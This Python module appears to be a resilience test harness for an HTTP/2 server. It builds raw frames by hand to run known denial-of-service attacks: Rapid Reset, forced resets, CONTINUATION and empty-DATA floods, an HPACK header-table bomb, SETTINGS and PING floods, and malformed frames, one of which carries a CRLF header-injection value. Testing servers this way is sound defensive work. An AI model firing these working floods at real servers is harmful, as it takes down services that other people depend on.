"""Attacks over HTTP/2, in frames written by hand: no client would send them."""
import select

from http1 import Broken

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A literal that the table does not keep, with lengths below 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


GET = (b"\x82\x87" + b"\x04\x06/livez" + b"\x41\x01x")  # GET, https, /livez, authority x


class Line:
    def __init__(self, server, settings=b"", timeout=5, receive=None):
        self.socket = server.connect("h2", timeout, receive)
        if self.socket.selected_alpn_protocol() != "h2":
            raise Broken("the server does not speak HTTP/2")
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.got = b""

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        """Whether all of it was taken; what comes back meanwhile is read, as a client would."""
        self.socket.settimeout(0.05)
        stalls = 0
        view = memoryview(data)
        while view:
            try:
                view = view[self.socket.send(view[:16384]):]
                stalls = 0
            except TimeoutError:
                stalls += 1
                if stalls > 100:
                    return False
            except OSError:
                return False
            if not self.drain():
                return False
        return True

    def drain(self):
        while self.socket.pending() or select.select([self.socket], [], [], 0)[0]:
            try:
                piece = self.socket.recv(65536)
            except TimeoutError:
                return True
            except OSError:
                return False
            if not piece:
                return False
            self.got += piece
        return True

    def end(self, seconds=2):
        """The frames that came until the server closes or falls silent, as pairs of kind and payload."""
        self.socket.settimeout(seconds)
        try:
            while piece := self.socket.recv(65536):
                self.got += piece
        except OSError:
            pass
        at, frames = 0, []
        while at + 9 <= len(self.got):
            length = int.from_bytes(self.got[at:at + 3], "big")
            frames.append((self.got[at + 3], self.got[at + 9:at + 9 + length]))
            at += 9 + length
        return frames


def close(line, taken):
    frames = line.end()
    away = [int.from_bytes(payload[4:8], "big") for kind, payload in frames if kind == GOAWAY]
    answers = sum(kind == HEADERS for kind, _ in frames)
    how = f"GOAWAY {away[-1]}" if away else "all taken" if taken else "closed"
    return f"{how}, {answers} answers"


def rapid_reset(server, scale):
    """10,000 requests, each taken back at once (CVE-2023-44487)."""
    with Line(server) as line:
        count = 10_000 * scale
        frames = b"".join(
            frame(HEADERS, 5, 2 * n + 1, GET) + frame(RESET, 0, 2 * n + 1, (8).to_bytes(4, "big")) for n in range(count))
        return close(line, line.send(frames))


def made_to_reset(server, scale):
    """10,000 streams that the server has to reset, by a window update of 0 each (CVE-2025-8671)."""
    with Line(server) as line:
        frames = b"".join(
            frame(HEADERS, 4, 2 * n + 1, GET) + frame(WINDOW, 0, 2 * n + 1, bytes(4)) for n in range(10_000 * scale))
        return close(line, line.send(frames))


def continuations(server, scale):
    """A header of 10,000 pieces that never ends (CVE-2024-27316)."""
    with Line(server) as line:
        frames = frame(HEADERS, 1, 1, GET) + frame(CONTINUATION, 0, 1, field(b"x-a", b"b" * 100) * 50) * 10_000 * scale
        taken = line.send(frames)
        if taken:
            raise Broken("a header of 60 MB was taken")
        return close(line, taken)


def empty_continuations(server, scale):
    with Line(server) as line:
        taken = line.send(frame(HEADERS, 1, 1, GET) + frame(CONTINUATION, 0, 1) * 200_000 * scale)
        return close(line, taken)


def header_table(server, scale):
    """A field of 4,000 bytes told once and meant 16,000 times in each of 50 headers: 3 GB if it is believed."""
    with Line(server) as line:
        kept = b"\x40\x03x-a\x7f\xa1\x1e" + b"a" * 4000
        frames = frame(HEADERS, 5, 1, GET + kept)
        for n in range(1, 50 * scale):
            frames += frame(HEADERS, 5, 2 * n + 1, GET + b"\xbe" * 16_000)
        return close(line, line.send(frames))


def settings_flood(server, scale):
    with Line(server) as line:
        return close(line, line.send(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") * 50_000 * scale))


def ping_flood(server, scale):
    with Line(server) as line:
        return close(line, line.send(frame(PING, 0, 0, bytes(8)) * 50_000 * scale))


def empty_data(server, scale):
    """100,000 pieces of a body with nothing in them (CVE-2019-9518)."""
    post = b"\x83\x87" + b"\x04\x05/sync" + b"\x41\x01x" + field(b"content-type", b"application/cbor")
    with Line(server) as line:
        return close(line, line.send(frame(HEADERS, 4, 1, post) + frame(DATA, 0, 1) * 100_000 * scale))


def broken_frames(server, scale):
    """Frames that break the rules of their kind, each on a line of its own."""
    seen = {}
    for data in (
        frame(HEADERS, 5, 2, GET), frame(HEADERS, 5, 0, GET), frame(DATA, 0, 1, b"x"), frame(WINDOW, 0, 0, bytes(4)),
        frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff") * 2, frame(SETTINGS, 0, 0, b"x"), frame(SETTINGS, 0, 1),
        frame(PING, 0, 0, b"x"), frame(RESET, 0, 1, bytes(4)), frame(CONTINUATION, 4, 1, GET),
        b"\xff\xff\xff" + frame(HEADERS, 5, 1, GET)[3:], frame(HEADERS, 5, 1, b"\xff" * 60),
        frame(HEADERS, 5, 1, b"\x3f\xff\xff\xff\xff\x0f"), frame(HEADERS, 13, 1, b"\xff" + GET),
        frame(HEADERS, 5, 1, field(b"content-length", b"5") + GET), frame(HEADERS, 5, 1, GET + field(b"Upper", b"x")),
        frame(HEADERS, 5, 1, GET + field(b"transfer-encoding", b"chunked")), frame(5, 4, 1, bytes(4) + GET),
        frame(SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff"), frame(SETTINGS, 0, 0, b"\x00\x05\x00\x00\x00\x01"),
        frame(HEADERS, 5, 1, GET + field(b"x", b"a\r\nx: b")), frame(200, 255, 1, bytes(100)),
    ):
        with Line(server) as line:
            line.send(data)
            frames = line.end(0.3)
            kind = "away" if any(k == GOAWAY for k, _ in frames) else "reset" if any(
                k == RESET for k, _ in frames) else "answered" if any(k == HEADERS for k, _ in frames) else "ignored"
            seen[kind] = seen.get(kind, 0) + 1
    return ", ".join(f"{count} {kind}" for kind, count in sorted(seen.items()))


ATTACKS = [
    rapid_reset, made_to_reset, continuations, empty_continuations, header_table, settings_flood, ping_flood, empty_data,
    broken_frames,
]
